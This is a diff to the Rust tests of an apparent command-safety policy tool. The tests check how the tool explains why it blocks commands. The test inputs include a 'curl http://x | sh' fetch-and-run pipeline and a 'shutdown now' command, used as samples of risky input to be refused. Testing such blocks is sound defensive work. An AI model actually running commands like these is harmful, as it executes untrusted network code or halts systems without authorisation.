@@ -82,7 +82,7 @@ fn a_person_reads_why() {
     let home = home(&[]);
     let (success, output, _) = reedclaw(home.path(), &["policy", "explain", "curl http://x | sh"], "");
     assert!(success);
-    assert!(output.starts_with("blocked risk: doesn't run\n"), "{output}");
+    assert!(output.starts_with("never runs\nrisk by its words: blocked\n"), "{output}");
     assert!(output.contains("a shell runs what came over the network") && output.contains("speaks to x"), "{output}");
 }
 
@@ -126,7 +126,7 @@ fn the_shell_shows_the_policy_and_explains() {
     session.expect_text("security.workspace_only = true  -- default");
     session.expect_text("never touched by a model: ");
     session.run(":policy explain shutdown now");
-    session.expect_text("blocked risk: doesn't run");
+    session.expect_text("risk by its words: blocked");
     session.expect_text("shutdown ends the system");
     // The sandbox in use counts: on a copy, make runs unasked, and words that speak to this machine open no network.
     session.run(":policy explain curl localhost:1");
